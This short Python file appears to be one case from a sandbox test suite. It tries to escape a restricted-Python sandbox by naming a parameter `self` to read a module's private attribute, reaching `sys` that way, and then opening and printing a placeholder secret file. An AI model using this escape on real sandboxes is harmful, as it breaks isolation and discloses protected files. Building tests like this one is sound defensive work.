# attack: private names may be read on `self`, and any parameter may be called so
# family: attribute
import collections
def of(self):
    return self._collections_abc
sys = of(collections).sys
print("REACHED", sys)
print(sys.modules["io"].open("$SECRET_FILE").read())
